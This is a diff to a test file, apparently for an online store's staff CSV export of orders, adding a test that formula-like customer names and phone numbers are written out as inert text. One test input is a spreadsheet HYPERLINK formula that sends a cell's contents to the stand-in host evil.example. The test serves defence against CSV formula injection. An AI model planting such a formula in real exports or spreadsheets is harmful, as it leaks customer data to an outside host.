@@ -190,13 +190,36 @@ describe('GET /api/staff/orders filters and /orders.csv', () => {
     // Paging is ignored: every order of the filter, in the list's order.
     expect(rows.slice(1).map((row) => row[0])).toEqual(ids(shown));
     const paid = rows.find((row) => row[0] === made.paid);
-    expect(paid).toEqual([made.paid, '2026-01-11 00:00', 'Pending', 'Online', 'yes', 'no', '500.05', '', `Ravi, "Jr" O'Neil`, shopper.email, '+919812345678', 'FILTERP']);
+    // The mobile number starts with '+', a formula start: it is written as text ('+91…), like any such cell.
+    expect(paid).toEqual([made.paid, '2026-01-11 00:00', 'Pending', 'Online', 'yes', 'no', '500.05', '', `Ravi, "Jr" O'Neil`, shopper.email, "'+919812345678", 'FILTERP']);
     const text = await response.text();
     expect(text).toContain(`"Ravi, ""Jr"" O'Neil"`);
     const cod = (await csv(`q=${encodeURIComponent(shopper.email)}&payment=cod`)).rows;
-    expect(cod.slice(1)).toEqual([[made.cod, '2026-01-10 23:59', 'Pending', 'COD', 'no', 'no', '1234.56', '', `Ravi, "Jr" O'Neil`, shopper.email, '+919812345678', '']]);
+    expect(cod.slice(1)).toEqual([[made.cod, '2026-01-10 23:59', 'Pending', 'COD', 'no', 'no', '1234.56', '', `Ravi, "Jr" O'Neil`, shopper.email, "'+919812345678", '']]);
     // Nothing matches: the header alone.
     expect((await csv('q=nobody-matches-this')).rows).toEqual([[...STAFF_ORDERS_CSV_COLUMNS]]);
+  });
+
+  it('writes a name typed as a spreadsheet formula as text: a leading quote on every cell starting =, +, -, @, tab or CR', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Refund")';
+    const evil = await newUser({ first: formula, last: '', mobile: '+919811122233' });
+    const plus = await newUser({ first: '+1+1', last: 'Shah' });
+    const minus = await newUser({ first: '-2+3', last: '' });
+    const at = await newUser({ first: '@SUM(A1:A9)', last: '' });
+    const tab = await newUser({ first: '\t=1+1', last: '' });
+    const free = await insertOrder(server.db, { userId: evil.id, totalPaise: 0 });
+    for (const user of [plus, minus, at, tab]) await insertOrder(server.db, { userId: user.id });
+    const { response, rows } = await csv(`q=${encodeURIComponent(evil.email)}`);
+    const text = await response.text();
+    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    // The total the store computes is never below zero: a free order's 0.00 goes out as it is.
+    expect(rows[1]).toEqual([free.order_id, rows[1][1], 'Pending', 'COD', 'no', 'no', '0.00', '', `'${formula}`, evil.email, "'+919811122233", '']);
+    const names = async (user: { email: string }) => (await csv(`q=${encodeURIComponent(user.email)}`)).rows.slice(1).map((row) => row[8]);
+    expect(await names(plus)).toEqual(["'+1+1 Shah"]);
+    expect(await names(minus)).toEqual(["'-2+3"]);
+    expect(await names(at)).toEqual(["'@SUM(A1:A9)"]);
+    // A name starting with a tab: trimmed for the column, then its '=' defused like the others.
+    expect(await names(tab)).toEqual(["'=1+1"]);
   });
 });
 
